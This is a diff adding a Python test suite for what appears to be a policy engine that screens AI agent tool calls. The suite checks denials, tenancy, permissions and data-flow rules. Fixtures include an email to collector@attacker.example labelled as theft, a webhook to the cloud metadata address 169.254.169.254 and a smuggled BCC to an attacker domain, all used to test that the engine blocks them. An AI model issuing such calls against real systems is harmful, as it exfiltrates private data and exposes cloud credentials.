@@ -1,0 +1,160 @@
+"""`yett decide`: one line in, one ruling out, in order; exit codes; what cannot be read is a denied call."""
+
+import json
+
+import yett
+from yett import DESKMATE, err, out, rows, run
+
+TENANT = ["--tenant", "acme"]
+
+
+def decide(*lines, words=(), tenant=TENANT):
+    text = "\n".join(line if isinstance(line, str) else json.dumps(line) for line in lines) + "\n"
+    return run("decide", "-p", DESKMATE, *tenant, *words, text=text)
+
+
+READ = {"id": "c1", "tool": "read_ticket", "arguments": {"id": "T-1"}}
+MAIL = {"id": "c2", "tool": "send_email", "arguments": {"to": "risk@deskmate.internal"}}
+THEFT = {"id": "c3", "tool": "send_email", "arguments": {"to": "collector@attacker.example"}}
+
+
+class Decide(yett.InScratchFolder):
+    def test_exit_codes(self):
+        self.assertEqual(decide(READ).returncode, 0)
+        self.assertEqual(decide(READ, MAIL).returncode, 3)
+        self.assertEqual(decide(READ, MAIL, THEFT).returncode, 1)
+        self.assertEqual(run("decide", "-p", self.folder / "none", text="").returncode, 2)
+
+    def test_a_ruling_has_the_contract_members(self):
+        row = rows(decide(THEFT))[0]
+        self.assertEqual(list(row), ["id", "tool", "decision", "rule", "reason", "tier", "also", "call", "policy"])
+        self.assertEqual(row["decision"], "deny")
+        self.assertEqual(row["rule"], "destination.unlisted")
+        self.assertEqual(row["reason"], "recipient domain not on the allowlist: attacker.example")
+        self.assertEqual(row["tier"], "dangerous")
+        self.assertEqual(row["also"], [{"rule": "approval.dangerous", "decision": "confirm"}])
+        self.assertRegex(row["call"], "^sha256:[0-9a-f]{64}$")
+        self.assertRegex(row["policy"], "^sha256:[0-9a-f]{64}$")
+
+    def test_key_order_and_spacing_do_not_change_the_digest(self):
+        one = rows(decide('{"tool":"update_ticket","arguments":{"id":"T-1","note":"x"}}'))[0]
+        two = rows(decide('{"arguments": {"note":"x", "id":"T-1"}, "tool":"update_ticket"}'))[0]
+        three = rows(decide('{"tool":"update_ticket","arguments":{"id":"T-1","note":"y"}}'))[0]
+        self.assertEqual(one["call"], two["call"])
+        self.assertNotEqual(one["call"], three["call"])
+
+    def test_chinese_reasons(self):
+        row = rows(decide(THEFT, words=["--lang", "zh"]))[0]
+        self.assertEqual(row["reason"], "收件域名不在白名单里：attacker.example")
+        self.assertEqual(rows(decide(READ, words=["--lang", "zh"]))[0]["reason"], "危险等级 safe")
+
+    def test_the_metadata_service(self):
+        row = rows(decide({"tool": "call_webhook", "arguments": {"url": "https://169.254.169.254/latest/meta-data/"}}))[0]
+        self.assertEqual(row["rule"], "destination.metadata")
+        self.assertEqual(row["reason"], "target is a private or loopback address: 169.254.169.254 (metadata)")
+        self.assertIn({"rule": "destination.unlisted", "decision": "deny"}, row["also"])
+
+    def test_unreadable_lines_are_denied_calls(self):
+        lines = [
+            "not json",
+            "[]",
+            "{}",
+            '{"tool":"read_ticket","tool":"send_email"}',
+            '{"tool":"read_ticket","arguments":{"id":"a","id":"b"}}',
+            '{"tool":"read_ticket","arguments":[]}',
+            '{"tool":"read_ticket","id":7}',
+            '{"tool":"read_ticket","approved":true}',
+            '{"tool":"read_ticket","source":"web"}',
+            '{"tool":"read_ticket","source":["user",3]}',
+            '{"tool":"read_ticket","read_private":"yes"}',
+            '{"tool":"read_ticket","arguments":{"id":9007199254740993}}',
+            '{"tool":"read_ticket","arguments":{"id":-0}}',
+            '{"tool":"read_ticket","arguments":{"id":"\\ud800"}}',
+            '{"Tool":"read_ticket"}',
+        ]
+        result = decide(*lines)
+        self.assertEqual(result.returncode, 1)
+        rulings = rows(result)
+        self.assertEqual(len(rulings), len(lines))
+        for line, row in zip(lines, rulings):
+            self.assertEqual((row["decision"], row["rule"]), ("deny", "arguments.malformed"), line)
+            self.assertIsNone(row["call"])
+
+    def test_blank_lines_are_skipped_and_the_last_needs_no_end(self):
+        result = run("decide", "-p", DESKMATE, *TENANT, text="\n  \n" + json.dumps(READ) + "\n\n" + json.dumps(MAIL))
+        self.assertEqual([row["id"] for row in rows(result)], ["c1", "c2"])
+
+    def test_invalid_utf8_is_a_denied_call(self):
+        result = run("decide", "-p", DESKMATE, text=b'{"tool":"read_ticket","arguments":{"id":"\xff"}}\n')
+        self.assertEqual(rows(result)[0]["rule"], "arguments.malformed")
+
+    def test_an_approval_in_the_arguments_is_an_undeclared_argument(self):
+        row = rows(decide({"tool": "send_email", "arguments": {"to": "risk@deskmate.internal", "approved": True}}))[0]
+        self.assertEqual(row["rule"], "arguments.schema")
+
+    def test_case_variants_are_malformed(self):
+        row = rows(decide({"tool": "send_email", "arguments": {"to": "risk@deskmate.internal", "BCC": "x@attacker.example"}}))[0]
+        self.assertEqual(row["rule"], "arguments.malformed")
+
+    def test_tenancy(self):
+        foreign = {"tool": "search_customers", "arguments": {"tenant_id": "globex", "query": "a"}}
+        own = {"tool": "search_customers", "arguments": {"query": "a"}}
+        self.assertEqual(rows(decide(foreign))[0]["rule"], "tenancy.in_arguments")
+        self.assertEqual(rows(decide(own))[0]["decision"], "allow")
+        self.assertEqual(rows(decide(own, tenant=[]))[0]["rule"], "tenancy.no_tenant")
+        row = rows(decide(own, tenant=["--tenant", "globex", "--allow-tenant", "acme"]))[0]
+        self.assertEqual(row["rule"], "tenancy.out_of_scope")
+        self.assertEqual(row["reason"], "tenant globex is out of scope for this session")
+
+    def test_permissions_and_sources(self):
+        words = ["--permissions", "read-only"]
+        self.assertEqual(rows(decide(READ, words=words))[0]["decision"], "allow")
+        self.assertEqual(rows(decide({**READ, "source": "tool_output"}, words=words))[0]["rule"], "permission.source")
+        self.assertEqual(rows(decide(MAIL, words=words))[0]["rule"], "permission.capability")
+        self.assertEqual(decide(READ, words=["--permissions", "full access"]).returncode, 2)
+
+    def test_sequence_carries_what_was_taken_in(self):
+        send = {"tool": "call_webhook", "arguments": {"url": "https://hooks.deskmate.internal/a"}}
+        calls = [{"tool": "search_customers", "arguments": {"query": "a"}}, send]
+        self.assertEqual([row["decision"] for row in rows(decide(*calls))], ["allow", "allow"])
+        sequence = rows(decide(*calls, words=["--sequence"]))
+        self.assertEqual((sequence[1]["decision"], sequence[1]["rule"]), ("confirm", "flow.private_to_outside"))
+        stated = rows(decide({**send, "source": "tool_output", "read_private": True}))[0]
+        self.assertEqual(stated["rule"], "flow.private_to_outside")
+
+    def test_time_comes_from_the_command_line(self):
+        words = ["--now", "2026-12-01T10:00:00Z", "--expires", "2026-12-01T09:00:00Z"]
+        self.assertEqual(rows(decide(READ, words=words))[0]["rule"], "session.expired")
+        self.assertEqual(decide(READ, words=["--now", "yesterday"]).returncode, 2)
+
+    def test_without_leaves_a_rule_out(self):
+        row = rows(decide(THEFT, words=["--without", "destination.unlisted", "--without", "approval.dangerous"]))[0]
+        self.assertEqual(row["decision"], "allow")
+        self.assertEqual(decide(THEFT, words=["--without", "no.rule"]).returncode, 2)
+
+    def test_session_file(self):
+        session = self.write("s.json", json.dumps({"run": "r", "user": "ana", "tenant": "acme", "allowed_tenants": ["acme"]}))
+        self.assertEqual(rows(decide(READ, tenant=["--session", session]))[0]["decision"], "allow")
+        session = self.write("bad.json", json.dumps({"run": "r", "approved": True}))
+        result = decide(READ, tenant=["--session", session])
+        self.assertEqual(result.returncode, 2)
+        self.assertIn("bad.json", err(result))
+
+    def test_a_file_instead_of_standard_input(self):
+        path = self.write("calls.jsonl", json.dumps(READ) + "\n")
+        self.assertEqual(len(rows(run("decide", "-p", DESKMATE, path))), 1)
+        self.assertEqual(run("decide", "-p", DESKMATE, self.folder / "none").returncode, 2)
+
+    def test_policy_from_the_environment_and_the_folder(self):
+        line = json.dumps(READ)
+        self.assertEqual(run("decide", text=line, environment={"YETT_POLICY": str(DESKMATE)}).returncode, 0)
+        self.write("yett.toml", DESKMATE.read_text())
+        self.assertEqual(run("decide", text=line, cwd=self.folder).returncode, 0)
+
+    def test_rows_in_other_formats(self):
+        self.assertIn("destination.unlisted", out(decide(THEFT, words=["--format", "table"])))
+        self.assertIn("| deny |", out(decide(THEFT, words=["--format", "markdown"])))
+
+
+if __name__ == "__main__":
+    yett.main()
